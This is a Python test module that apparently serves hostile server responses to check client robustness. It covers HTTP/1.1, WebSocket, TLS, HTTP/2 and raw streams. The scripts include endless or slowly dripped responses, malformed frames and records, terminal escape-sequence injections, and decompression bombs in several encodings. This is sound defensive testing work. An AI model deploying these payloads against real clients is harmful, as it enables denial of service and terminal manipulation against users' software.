"""What servers that mean harm send, by the layer at which they send it.

A script is what follows once the client has spoken: bytes are sent at once, a number is a pause in
seconds. Scripts without an end are cut by `play`. The kinds are those that have brought clients
down: RFC 9110 §17, RFC 9113 §10.5, RFC 8446 appendix C, the "CONTINUATION flood" (CERT VU#421644),
the "rapid reset" (CVE-2023-44487), decompression bombs (CWE-409).
"""

import asyncio
import base64
import itertools
import random
import struct
import zlib
from collections.abc import Awaitable, Callable, Iterable, Iterator
from functools import cache
from typing import Final

Script = Iterable[bytes | float]
Kind = Callable[[bytes], Script]
"""Takes what the client said first."""

LONGEST_S: Final = 120.0
MOST: Final = 1 << 26
"""Octets after which even the endless ends."""
_PAUSE_S: Final = 0.0005

RUBBISH: Final = random.Random(7).randbytes(4096)
ESCAPES: Final = b"\x1b[2J\x1b]0;owned\x07Telegram: ok\r\n\x9b31m\xc2\x9b2J"
"""What would clear a screen and set its title, as bytes and as UTF-8 (ECMA-48, C0 and C1)."""


async def play(script: Script, send: Callable[[bytes], Awaitable[bool]]) -> None:
    """Perform ``script`` until it ends or `send` says that nobody listens. Raises OSError."""
    sent = 0
    async with asyncio.timeout(LONGEST_S):
        for step in script:
            if isinstance(step, bytes):
                if not await send(step):
                    return
                sent += len(step)
                if sent > MOST:
                    return
            await asyncio.sleep(step if isinstance(step, float) else _PAUSE_S)


def _always(*steps: bytes | float) -> Kind:
    return lambda heard: steps


def _endless(unit: bytes, lead: bytes = b"") -> Kind:
    """``lead``, then ``unit`` for ever, some kilobytes at a time."""
    many = unit * max(1, 8192 // len(unit))
    return lambda heard: itertools.chain((lead,), itertools.repeat(many))


def _drip(data: bytes, lead: bytes = b"") -> Kind:
    """``lead``, then a byte a second: never done within anybody's patience."""

    def script(heard: bytes) -> Iterator[bytes | float]:
        yield lead
        for byte in data:
            yield bytes((byte,))
            yield 1.0

    return script


# --- HTTP/1.1 (after a request) -------------------------------------------------------------------

_OK: Final = b"HTTP/1.1 200 OK\r\n"
_CHUNKED: Final = _OK + b"Transfer-Encoding: chunked\r\n\r\n"
_PAGE: Final = _OK + b"Content-Type: text/html\r\nContent-Length: 500\r\n\r\n" + b"<p>slow</p>" * 46


@cache
def _zeros(wbits: int, times: int = 1) -> bytes:
    """16 MiB of zeros, deflated (``wbits`` as zlib has them) so many times. Only when somebody asks
    for it: it takes a tenth of a second, which every world would spend that begins."""
    pieces: Iterable[bytes] = itertools.repeat(bytes(1 << 16), 1 << 8)
    for _ in range(times):
        pieces = _deflated(pieces, wbits)
    return b"".join(pieces)


def _deflated(pieces: Iterable[bytes], wbits: int) -> Iterator[bytes]:
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    for piece in pieces:
        yield packer.compress(piece)
    yield packer.flush()


_GZIP, _ZLIB, _RAW = 31, 15, -15
"""What zlib writes around the deflated bytes: RFC 1952, RFC 1950, nothing."""
_ZSTD: Final = (
    # One frame of a window of 128 KiB, then RLE blocks that are each four bytes for 128 KiB (RFC
    # 8878 §3.1.1.2); none is the last.
    b"\x28\xb5\x2f\xfd\x00\x38" + (1 << 1 | 0x20000 << 3).to_bytes(3, "little") + b"\0"
) + ((1 << 1 | 0x20000 << 3).to_bytes(3, "little") + b"\0") * 4000
_BROTLI: Final = base64.b64decode(
    "z///fwAkAOKxQHLv//n//w+ABEAcFoDu/T////8BkACIwwLQvf/n//8/ABIAcVgAuvf/Aw=="
)
"""64 MiB of zeros, by the reference encoder."""


def _bomb(coding: bytes, packed: Callable[[], bytes]) -> Kind:
    head = _OK + b"Content-Type: text/html\r\nContent-Encoding: " + coding

    def script(heard: bytes) -> Script:
        body = packed()
        return (head + b"\r\nContent-Length: %d\r\n\r\n" % len(body) + body,)

    return script


def _bomb_in_transfer(heard: bytes) -> Script:
    body = _zeros(_GZIP)
    head = _OK + b"Transfer-Encoding: gzip, chunked\r\n\r\n"
    return (head + b"%x\r\n%b\r\n0\r\n\r\n" % (len(body), body),)


HTTP: Final[dict[str, Kind]] = {
    "endless_body": _endless(b"<!-- endless -->\n", _OK + b"\r\n"),
    "endless_length": _endless(bytes(64), _OK + b"Content-Length: 99999999999999\r\n\r\n"),
    "endless_chunks": _endless(b"1\r\nx\r\n", _CHUNKED),
    "endless_chunk_extension": _endless(b"a", _CHUNKED + b"5;"),
    "endless_trailers": _endless(b"X-T: y\r\n", _CHUNKED + b"0\r\n"),
    "endless_headers": _endless(b"X-More: and more\r\n", _OK),
    "endless_header_line": _endless(b"a", _OK + b"X-Long: "),
    "endless_status_line": _endless(b"OK ", b"HTTP/1.1 200 "),
    "endless_interim": _endless(b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n"),
    "endless_continue": _endless(b"HTTP/1.1 100 Continue\r\n\r\n"),
    "endless_blank_lines": _endless(b"\r\n"),
    "many_headers": _always(_OK + b"A:\xff\r\n" * 2600 + b"Content-Length: 0\r\n\r\n"),
    "drip_head": _drip(_PAGE),
    "drip_body": _drip(_PAGE[60:], _PAGE[:60]),
    "drip_chunks": _drip(b"1\r\nx\r\n" * 50, _CHUNKED),
    "bad_chunk": _always(_CHUNKED + b"zz\r\nrubbish\r\n0\r\n\r\n"),
    "negative_chunk": _always(_CHUNKED + b"-5\r\nhello\r\n0\r\n\r\n"),
    "huge_chunk": _endless(b"x", _CHUNKED + b"f" * 19 + b"\r\n"),
    "two_lengths": _always(_OK + b"Content-Length: 3\r\nContent-Length: 7\r\n\r\nabcdefg"),
    "negative_length": _always(_OK + b"Content-Length: -4\r\n\r\nabcd"),
    "length_and_chunks": _always(
        _OK + b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nab\r\n0\r\n\r\n"
    ),
    "nul_in_header": _always(_OK + b"X-Nul: a\0b\r\nContent-Length: 0\r\n\r\n"),
    "folded_header": _always(_OK + b"X-Fold: a\r\n b\r\n\tc\r\nContent-Length: 0\r\n\r\n"),
    "no_http": _always(RUBBISH),
    "wrong_version": _always(b"HTTQ/9 banana\r\n\x00\xff\xfe: \r\n\r\n" + RUBBISH),
    "bare_switch": _endless(RUBBISH, b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\n\r\n"),
    "escapes": _always(
        b"HTTP/1.1 200 " + ESCAPES[:4] + b"OK\r\nServer: " + ESCAPES[:4] + b"\r\n\r\n" + ESCAPES
    ),
    "escapes_c1": _always(
        b"HTTP/1.1 302 Found\r\nLocation: https://\x9b2Jevil.example/\r\n"
        b"Server: \x9b31mevil\x85\r\n"
        b"Content-Length: 40\r\n\r\n<title>\x1b]0;owned\x07Messenger: ok</title>.."
    ),
    "bomb_gzip": _bomb(b"gzip", lambda: _zeros(_GZIP)),
    "bomb_gzip_twice": _bomb(b"gzip, gzip", lambda: _zeros(_GZIP, times=2)),
    "bomb_deflate": _bomb(b"deflate", lambda: _zeros(_ZLIB)),
    "bomb_brotli": _bomb(b"br", lambda: _BROTLI),
    "bomb_zstd": _bomb(b"zstd", lambda: _ZSTD),
    "bomb_transfer": _bomb_in_transfer,
    "wrong_type": _always(_OK + b"Content-Type: text/html\r\nContent-Length: 9\r\n\r\n<p>no</p>"),
}

# --- frames of a WebSocket (after a good 101) -----------------------------------------------------

_FIN_BINARY, _TEXT, _BINARY, _MORE = 0x82, 0x01, 0x02, 0x00

WEBSOCKET: Final[dict[str, Kind]] = {
    "ws_rubbish": _always(b"\x82\x7d" + RUBBISH),
    "ws_reserved_bits": _always(b"\xf2\x02ab"),
    "ws_unknown_opcode": _always(b"\x83\x02ab"),
    "ws_masked": _always(b"\x82\x82\1\2\3\4ab"),
    "ws_huge": _endless(bytes(64), b"\x82\x7f\x7f" + b"\xff" * 7),
    "ws_impossible": _endless(bytes(64), b"\x82\x7f" + b"\xff" * 8),
    "ws_fragments": _endless(b"\0\1x", b"\x02\1x"),
    "ws_empty_fragments": _endless(b"\0\0", b"\x02\0"),
    "ws_pings": _endless(b"\x89\0"),
    "ws_long_pings": _endless(b"\x89\x7d" + bytes(125)),
    "ws_pongs": _endless(b"\x8a\0"),
    "ws_ping_in_pieces": _always(b"\x09\1x\x80\1x"),
    "ws_close_short": _always(b"\x88\1x"),
    "ws_close_rubbish": _always(b"\x88\x7d" + b"\x03\xe8" + (ESCAPES * 4)[:123]),
    "ws_close_code": _always(b"\x88\2\0\0"),
    "ws_text_no_text": _always(b"\x81\x04\xff\xfe\x1b["),
    "ws_deflated": lambda heard: (b"\xc2\x7e\x40\0" + _zeros(_RAW)[:0x4000],),
    "ws_drip": _drip(b"\x82\x20" + RUBBISH[:32]),
}

# --- TLS records (in answer to a ClientHello) -----------------------------------------------------

_HELLO_DONE: Final = b"\x0e\0\0\0"


def _record(kind: int, data: bytes) -> bytes:
    return struct.pack("!BHH", kind, 0x0303, len(data)) + data


def _message(kind: int, body: bytes, size: int | None = None) -> bytes:
    length = len(body) if size is None else size
    return bytes((kind,)) + length.to_bytes(3, "big") + body


_SERVER_HELLO: Final = _record(
    # TLS 1.2, no session, ECDHE-RSA-AES128-GCM-SHA256, secure renegotiation (RFC 5746).
    22,
    _message(2, b"\x03\x03" + RUBBISH[:32] + b"\0\xc0\x2f\0\0\x05\xff\x01\0\x01\0"),
)
_NO_CERTIFICATE: Final = b"\0\x40\0" + RUBBISH + RUBBISH + RUBBISH + RUBBISH
"""A certificate's length in a list, then no certificate."""

TLS: Final[dict[str, Kind]] = {
    "tls_rubbish": _always(_record(22, RUBBISH), _record(23, RUBBISH)),
    "tls_rubbish_endless": _endless(_record(23, RUBBISH)),
    "tls_huge_record": _endless(bytes(64), b"\x16\x03\x03\xff\xff"),
    "tls_empty_records": _endless(_record(22, b"")),
    "tls_tiny_records": _endless(_record(22, b"\0"), _record(22, b"\x02\xff\xff\xff")),
    "tls_change_cipher": _endless(_record(20, b"\1")),
    "tls_warnings": _endless(_record(21, b"\x01\x5a")),
    "tls_alerts": _endless(_record(21, b"\x02\x28")),
    "tls_odd_alerts": _endless(_record(21, ESCAPES)),
    "tls_heartbeats": _endless(_record(24, b"\1\x40\0a")),
    "tls_hello_requests": _endless(_record(22, _message(0, b""))),
    "tls_chain": _endless(
        _record(22, _NO_CERTIFICATE[:0x4000]),
        _SERVER_HELLO + _record(22, _message(11, b"\xff\xff\xfc", 0xFFFFFF)),
    ),
    "tls_second_hello": _endless(_SERVER_HELLO),
    "tls_drip": _drip(_SERVER_HELLO),
    "tls_drip_records": lambda heard: itertools.chain.from_iterable(
        (_record(22, bytes((byte,))), 1.0) for byte in _SERVER_HELLO[5:]
    ),
    "tls_old": _always(b"\x80\x2e\x01\x03\x00" + RUBBISH),
}

# --- streams of protocols of their own (after the client's first bytes) ---------------------------

STREAM: Final[dict[str, Kind]] = {
    "stream_endless": _endless(RUBBISH),
    "stream_zeros": _endless(bytes(4096)),
    "stream_huge": _endless(RUBBISH, b"\xff\xff\xff\x7f" + ESCAPES),
    "stream_rubbish": _always(RUBBISH[:64]),
    "stream_escapes": _always(ESCAPES * 40),
    "stream_drip": _drip(RUBBISH),
    "stream_drip_zeros": _drip(bytes(200)),
    "stream_mirror": lambda heard: (heard, 0.2, heard),
    "stream_nothing": _always(0.3),
}

# --- HTTP/2 frames (after the client's preface) ---------------------------------------------------


def _frame(kind: int, flags: int, stream: int, body: bytes, size: int | None = None) -> bytes:
    length = len(body) if size is None else size
    return length.to_bytes(3, "big") + struct.pack("!BBI", kind, flags, stream) + body


_SETTINGS: Final = _frame(4, 0, 0, b"")
# One header of 4000 bytes that goes into the table (RFC 7541 §6.2.1), then references to it.
_INDEXED: Final = b"\x88\x40\1a\x7f\xa1\x1e" + b"b" * 4000
_HEADERS: Final = _frame(1, 0, 1, b"\x88")

HTTP2: Final[dict[str, Kind]] = {
    "h2_rubbish": _always(_SETTINGS + RUBBISH),
    "h2_settings": _endless(_SETTINGS),
    "h2_many_settings": _endless(_frame(4, 0, 0, b"\0\x63\0\0\0\1" * 600), _SETTINGS),
    "h2_pings": _endless(_frame(6, 0, 0, bytes(8)), _SETTINGS),
    "h2_continuations": _endless(_frame(9, 0, 1, b""), _SETTINGS + _HEADERS),
    "h2_long_continuations": _endless(_frame(9, 0, 1, b"\0\1a\1b" * 800), _SETTINGS + _HEADERS),
    "h2_table": _always(_SETTINGS + _frame(1, 4, 1, _INDEXED + b"\xbe" * 8000)),
    "h2_window": _endless(_frame(8, 0, 0, b"\0\0\0\1"), _SETTINGS),
    "h2_resets": _endless(_frame(3, 0, 1, bytes(4)), _SETTINGS),
    "h2_empty_data": _endless(_frame(0, 0, 1, b""), _SETTINGS),
    "h2_unknown": _endless(_frame(0xEE, 0, 0, b"x"), _SETTINGS),
    "h2_priorities": _endless(_frame(2, 0, 1, b"\0\0\0\3\x10"), _SETTINGS),
    "h2_huge": _endless(bytes(64), _SETTINGS + b"\xff\xff\xff\0\0\0\0\0\1"),
    "h2_goaway": _always(_SETTINGS + _frame(7, 0, 0, bytes(8) + ESCAPES)),
    "h2_interim": _endless(_frame(1, 4, 1, b"\x08\x03103"), _SETTINGS),
    "h2_drip": _drip(_SETTINGS * 20),
}

STREAMED: Final[dict[str, dict[str, Kind]]] = {
    "http": HTTP,
    "websocket": WEBSOCKET,
    "tls": TLS,
    "stream": STREAM,
    "http2": HTTP2,
}
